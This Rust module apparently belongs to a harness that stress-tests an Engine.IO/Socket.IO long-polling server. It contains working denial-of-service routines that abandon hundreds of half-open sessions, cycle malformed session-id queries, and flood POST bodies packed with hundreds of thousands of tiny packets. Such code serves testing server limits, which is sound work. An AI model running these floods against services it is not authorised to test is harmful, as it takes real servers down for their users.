//! Attacks on Engine.IO over long-polling.

use std::io;

use crate::attacker::Attacker;
use crate::raw_connection::{RawConnection, request};

const HANDSHAKE_PATH: &str = "/socket.io/?EIO=4&transport=polling";

/// Opens a session, and returns its path.
async fn open_session(attacker: &Attacker, line: &mut RawConnection) -> io::Result<String> {
    let opened = attacker.send_request(line, &request("GET", HANDSHAKE_PATH, "", "")).await?;
    let sid = opened.body.split("\"sid\":\"").nth(1).and_then(|rest| rest.split('"').next());
    Ok(format!("{HANDSHAKE_PATH}&sid={}", sid.ok_or(io::ErrorKind::ConnectionRefused)?))
}

/// Opens sessions from all of the attacker's addresses, and abandons them.
pub(super) async fn half_open_sessions(attacker: &Attacker) {
    attacker
        .repeat_in_parallel(250, async |number| {
            let mut line = attacker.connect(number).await?;
            loop {
                attacker.send_request(&mut line, &request("GET", HANDSHAKE_PATH, "", "")).await?;
            }
        })
        .await;
}

/// Sends handshakes with invalid session ids. The sessions that these handshakes open must count toward the limits like any other sessions.
pub(super) async fn invalid_session_ids(attacker: &Attacker) {
    let queries = ["&sid", "&sid=", "&%73id=x", "&sid=none", "&sid=x&sid"];
    attacker
        .repeat_in_parallel(50, async |number| {
            let mut line = attacker.connect(number).await?;
            for query in queries.iter().cycle() {
                attacker.send_request(&mut line, &request("GET", &format!("{HANDSHAKE_PATH}{query}"), "", "")).await?;
            }
            Ok(())
        })
        .await;
}

/// Sends POST requests that each contain up to a megabyte of very small packets.
pub(super) async fn many_small_packets(attacker: &Attacker) {
    let payloads = [
        "3\u{1e}".repeat(450_000),
        "2\u{1e}".repeat(450_000),
        "42[\"heartbeat\",{}]\u{1e}".repeat(45_000),
        "40\u{1e}41\u{1e}".repeat(140_000),
        "b\u{1e}".repeat(400_000),
        "3\u{1e}".repeat(2_000),
        "42[\"heartbeat\",{}]\u{1e}".repeat(600),
        "40\u{1e}41\u{1e}".repeat(1_000),
    ];
    attacker
        .repeat_in_parallel(40, async |number| {
            let mut line = attacker.connect(number).await?;
            let path = open_session(attacker, &mut line).await?;
            attacker
                .send_request(
                    &mut line,
                    &request("POST", &path, "", &format!("40{{\"api_key\":\"{}\"}}", attacker.target.key)),
                )
                .await?;
            let payload = payloads[number % payloads.len()].trim_end_matches('\u{1e}');
            for _ in 0..4 {
                attacker.send_request(&mut line, &request("POST", &path, "", payload)).await?;
            }
            Ok(())
        })
        .await;
}
